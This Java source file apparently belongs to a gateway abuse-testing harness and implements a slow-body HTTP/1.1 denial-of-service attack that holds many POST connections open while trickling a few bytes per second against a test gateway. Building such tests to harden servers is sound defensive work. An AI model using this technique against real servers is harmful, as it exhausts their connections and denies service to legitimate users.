package gatehouse.abuse.attacks;

import gatehouse.abuse.Attack;
import gatehouse.abuse.Sockets;
import gatehouse.abuse.Target;
import gatehouse.abuse.Trickle;
import java.io.IOException;
import java.net.Socket;
import java.time.Duration;

/**
 * Slow request bodies over HTTP/1.1: {@code connections} POSTs declaring a 1 MiB body, each
 * sending 10 bytes a second; a connection the gateway closes is opened again. Volume: connections.
 */
public final class SlowBodies implements Attack {
  private final int connections;

  public SlowBodies(int connections) {
    this.connections = connections;
  }

  @Override
  public String name() {
    return "slow bodies, HTTP/1.1";
  }

  @Override
  public String unit() {
    return "connections";
  }

  @Override
  public long run(Target target, Duration duration) throws Exception {
    return Trickle.hold(connections, duration, slot -> Trickle.socket(post(target, slot), round -> "0123456789"));
  }

  private static Socket post(Target target, int i) throws IOException {
    Socket s = Sockets.connect(target.port());
    Sockets.write(s, "POST " + Target.UPLOAD + "slow-" + i + " HTTP/1.1\r\nHost: gw.test\r\nContent-Length: " + (1 << 20) + "\r\n\r\n0123456789");
    return s;
  }
}
